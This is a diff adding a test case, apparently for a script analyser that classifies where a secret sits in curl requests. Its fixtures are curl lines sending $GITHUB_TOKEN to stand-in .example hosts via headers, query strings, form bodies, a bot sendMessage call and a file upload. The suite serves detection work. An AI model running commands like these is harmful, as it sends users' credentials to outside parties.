@@ -100,3 +100,25 @@ it("lists a program that it did not find on PATH", { timeout: 60_000 }, async ({
   const onPath = lookedFor.filter(({ path }) => path.endsWith(" on PATH"));
   expect(onPath).toEqual([{ path: "no-such-tool on PATH", exists: false }]);
 });
+
+it("tells a key in its own place of a request from one in a message", { timeout: 60_000 }, async ({ skip }) => {
+  if (typeof found === "string") return skip(found);
+  const requests = [
+    ['https://header.example/ -H "Authorization: Bearer $GITHUB_TOKEN" -d "{}"', "header"],
+    ['-u "me:$GITHUB_TOKEN" http://basic.example/', "header"],
+    ['"https://target.example/v1?key=$GITHUB_TOKEN"', "target"],
+    ['http://body.example/ -d grant=a -d "client_secret=$GITHUB_TOKEN"', "body"],
+    ['https://parts.example/ -F "token=$GITHUB_TOKEN" -F channel=a', "body"],
+    ['http://bot.example/bot7123456789:AAHother/sendMessage -d chat_id=42 -d "text=$GITHUB_TOKEN"', "message"],
+    [
+      'https://gist.example/ -H "Authorization: token ghp_other4567890" -d "{\\"token\\":\\"$GITHUB_TOKEN\\"}"',
+      "message",
+    ],
+    ['https://file.example/ -T - <<< "$GITHUB_TOKEN"', "message"],
+  ];
+  const script = `#!/bin/bash\n${requests.map(([words]) => `curl -s ${words}`).join("\n")}\n`;
+  const { sent, stderr } = await found.analyseScript("run.sh", script);
+  const places = sent.map(({ hosts, place }) => `${hosts?.[0]?.split(".")[0]} ${place}`);
+  const expected = requests.map(([words = "", place]) => `${/([a-z]+)\.example/.exec(words)?.[1]} ${place}`);
+  expect(places.sort(), stderr).toEqual(expected.sort());
+});
